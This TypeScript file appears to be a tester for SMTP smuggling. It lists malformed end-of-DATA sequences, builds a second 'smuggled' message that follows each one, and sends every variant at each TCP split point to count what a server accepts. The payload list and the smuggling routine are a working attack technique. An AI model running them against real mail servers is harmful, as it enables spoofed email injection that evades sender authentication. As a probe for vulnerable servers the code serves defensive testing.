import { setImmediate as nextTurn } from 'node:timers/promises'
import type { RawSmtp } from './servers.ts'

/** Sequences that some server once accepted as the end of DATA; only CRLF, dot, CRLF is valid (RFC 5321, 4.1.1.4). */
export const FALSE_ENDS = [
  '\n.\n',
  '\n.\r\n',
  '\r\n.\n',
  '\r.\r',
  '\r.\r\n',
  '\r\n.\r',
  '\n.\r',
  '\r.\n',
  '\r\n\0.\r\n',
  '\r\n.\0\r\n',
  '\r\n.\r\r\n',
] as const

/** A second message, for a server that takes `end` for the end of the first one. */
export function smuggledMail(end: string, to: string): string {
  return `${end}MAIL FROM:<a@sender.test>\r\nRCPT TO:<${to}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx`
}

/**
 * Sends one message per false end and per position where TCP may split it, followed by the second message.
 * @returns the number of messages the server accepted, and unexpected replies
 */
export async function trySmuggling(
  client: RawSmtp,
  to: string,
  smuggledTo: string,
): Promise<{ sent: number; accepted: number; unasked: string[] }> {
  let accepted = 0
  let sent = 0
  const unasked: string[] = []
  for (const end of FALSE_ENDS) {
    for (let cut = 0; cut <= end.length; cut++) {
      sent++
      await client.say(`MAIL FROM:<a@sender.test>\r\nRCPT TO:<${to}>\r\nDATA\r\n`, 3)
      client.socket.write(`From: a@sender.test\r\nSubject: first\r\n\r\nx${end.slice(0, cut)}`)
      await nextTurn()
      const [reply = ''] = await client.say(`${smuggledMail(end, smuggledTo).slice(cut)}\r\n.\r\n`)
      if (reply.startsWith('250')) accepted++
      // A vulnerable server would send more than one reply here.
      const [next = ''] = await client.say('HELP\r\n')
      if (!next.startsWith('214')) unasked.push(next)
    }
  }
  return { sent, accepted, unasked }
}
